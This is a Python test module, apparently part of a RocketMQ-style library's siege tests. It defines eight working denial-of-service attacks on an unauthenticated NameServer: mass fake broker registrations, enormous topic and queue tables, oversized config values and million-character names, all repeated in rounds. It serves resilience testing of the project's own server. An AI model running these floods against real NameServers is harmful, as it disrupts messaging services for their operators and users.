"""What a stranger may send to a NameServer to keep it from serving others.

Each attack is one connection's worth of ill will, repeated until it is told to stop. Nobody is
asked who he is before he may call himself a broker.
"""

import asyncio
import contextlib
import json
import random
import sys
import zlib
from collections.abc import Awaitable, Callable
from typing import Any, Final

from rocketq.remoting import Command, RemotingClient, RemotingError, RequestCode
from rocketq.remoting.headers.namesrv import (
    AddWritePerm,
    GetKvListByNamespace,
    GetRouteInfo,
    GetTopicsByCluster,
    PutKvConfig,
    RegisterBroker,
    RegisterTopicInNamesrv,
    UnregisterBroker,
    WipeWritePerm,
)
from tests.siege import attack_for

Attack = Callable[[RemotingClient, str, int], Awaitable[None]]
"""One round against an address; rounds are counted from 0."""


async def call(client: RemotingClient, address: str, request: Command) -> Command | None:
    """Whatever comes of it."""
    with contextlib.suppress(RemotingError):
        return await client.call(address, request, 30.0)
    return None


def registration(
    broker_name: str,
    topics: dict[str, int],
    *,
    address: str = "",
    cluster: str = "strangers",
    counter: int = 1,
    broker_id: int = 0,
    **fields: Any,
) -> Command:
    """`topics`: name -> number of queues."""
    table = {
        topic: {"topicName": topic, "readQueueNums": queues, "writeQueueNums": queues, "perm": 6}
        for topic, queues in topics.items()
    }
    version = {"counter": counter, "stateVersion": 0, "timestamp": 1}
    wrapper = {"dataVersion": version, "topicConfigTable": table}
    body = json.dumps(
        {"filterServerList": [], "topicConfigSerializeWrapper": wrapper}, separators=(",", ":")
    ).encode()
    header = RegisterBroker(
        broker_name=broker_name,
        broker_addr=address or f"{broker_name}:10911",
        cluster_name=cluster,
        ha_server_addr="10.0.0.1:10912",
        broker_id=broker_id,
        body_crc32=zlib.crc32(body) & 0x7FFF_FFFF,
        **fields,
    )
    return Command.request(header, body)


async def brokers_without_end(client: RemotingClient, address: str, turn: int) -> None:
    """On a few connections, since each may bring only so many; and gone again at once."""
    for _ in range(8):
        guest = RemotingClient()
        await asyncio.gather(
            *(
                call(guest, address, registration(f"b-{turn}-{number}", {"a": 4, "b": 4}))
                for number in range(100)
            )
        )
        await guest.close()


async def topics_without_end(client: RemotingClient, address: str, turn: int) -> None:
    for part in range(4):
        topics = {f"{turn}-{part}-{number}-{'x' * 100}": number % 999 for number in range(12_000)}
        await call(client, address, registration("topics", topics, counter=turn * 10 + part))
    for request in (
        GetTopicsByCluster(cluster="strangers"),
        WipeWritePerm(broker_name="topics"),
        AddWritePerm(broker_name="topics"),
    ):
        await call(client, address, Command.request(request))
    await call(client, address, Command.request(RequestCode.GET_ALL_TOPIC_LIST_FROM_NAMESERVER))
    await call(client, address, Command.request(RequestCode.GET_UNIT_TOPIC_LIST))


async def shapes_without_end(client: RemotingClient, address: str, turn: int) -> None:
    """No two topics alike, on many brokers: nothing can be shared between them."""
    choose = random.Random(turn)
    for number in range(60):
        topics = {f"shape-{each}": choose.randrange(1, 1000) for each in range(1_000)}
        name = f"shapes-{turn % 4}-{number}"
        await call(client, address, registration(name, topics, counter=turn + 1))
    for number in range(60):
        gone = UnregisterBroker(
            broker_name=f"shapes-{turn % 4}-{number}",
            broker_addr=f"shapes-{turn % 4}-{number}:10911",
            cluster_name="strangers",
            broker_id=0,
        )
        await call(client, address, Command.request(gone))


async def clusters_without_end(client: RemotingClient, address: str, turn: int) -> None:
    for number in range(200):
        request = registration(
            "wanderer",
            {"a": 4, "b": 4},
            cluster=f"c-{turn}-{number}",
            heartbeat_timeout_millis=1,
        )
        await call(client, address, request)
    await call(client, address, Command.request(RequestCode.GET_BROKER_CLUSTER_INFO))


async def one_topic_many_times(client: RemotingClient, address: str, turn: int) -> None:
    await call(client, address, registration("once", {"a": 4, "b": 4}))
    queues = [
        {"brokerName": "once", "perm": 6, "readQueueNums": n, "writeQueueNums": n}
        for n in range(7_000)
    ]
    body = json.dumps({"queueDatas": queues, "brokerDatas": []}).encode()
    header = RegisterTopicInNamesrv(topic=f"many-{turn}")
    await call(client, address, Command.request(header, body))


async def settings_without_end(client: RemotingClient, address: str, turn: int) -> None:
    await asyncio.gather(
        *(
            call(
                client,
                address,
                Command.request(
                    PutKvConfig(
                        namespace="ORDER_TOPIC_CONFIG",
                        key=f"{turn}-{number}",
                        value="x" * 60_000,
                    )
                ),
            )
            for number in range(100)
        )
    )
    await call(
        client, address, Command.request(GetKvListByNamespace(namespace="ORDER_TOPIC_CONFIG"))
    )
    await call(client, address, registration("settings", {"a": 4, "b": 4}))


async def long_names(client: RemotingClient, address: str, turn: int) -> None:
    await call(client, address, registration("x" * 100_000 + str(turn), {"a": 4, "b": 4}))
    await call(client, address, registration("names", {f"{turn}" + "x" * 1_000_000: 4, "b": 4}))


async def routes_of_many_brokers(client: RemotingClient, address: str, turn: int) -> None:
    """`prepare` has registered them; a change of one makes all routes stale."""
    for number in range(3):
        request = registration("big-0", {"TBW102": 4, "big": 4}, zone_name=f"z{turn}-{number}")
        await call(client, address, request)
        questions = (
            GetRouteInfo(topic="big"),
            GetRouteInfo(topic="TBW102"),
            GetRouteInfo(topic="big", zone_name="z", zone_mode="true"),
        )
        await asyncio.gather(
            *(call(client, address, Command.request(each)) for each in questions * 5),
            call(client, address, Command.request(RequestCode.GET_BROKER_CLUSTER_INFO)),
            call(client, address, Command.request(RequestCode.GET_SYSTEM_TOPIC_LIST_FROM_NS)),
        )


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        brokers_without_end,
        topics_without_end,
        shapes_without_end,
        clusters_without_end,
        one_topic_many_times,
        settings_without_end,
        long_names,
        routes_of_many_brokers,
    )
}

BROKERS: Final = 2_000


async def prepare(address: str, name: str) -> list[RemotingClient]:
    """An honest broker, and for one of the attacks a cluster as large as they come."""
    client = RemotingClient()
    reply = await client.call(address, registration("honest", {"orders": 4, "TBW102": 8}))
    assert reply.code == 0, reply
    clients = [client]
    if name == "routes_of_many_brokers":
        topics = {"TBW102": 4, "big": 4}
        for first in range(0, BROKERS, 50):
            client = RemotingClient()
            clients.append(client)
            requests = [
                registration(f"big-{number}", topics, cluster="c")
                for number in range(first, first + 50)
            ]
            replies = await asyncio.gather(*(client.call(address, each, 30.0) for each in requests))
            assert all(reply.code == 0 for reply in replies), replies
    return clients


async def attack(address: str, name: str, rounds: int, stop: asyncio.Event | None = None) -> int:
    """Some rounds of one attack, or as many as there is time for; returns how many."""
    client = RemotingClient()
    turn = 0
    try:
        while turn < rounds and not (stop is not None and stop.is_set()):
            await ATTACKS[name](client, address, turn)
            turn += 1
    finally:
        await client.close()
    return turn


if __name__ == "__main__":
    asyncio.run(attack_for(attack, sys.argv[1:]))
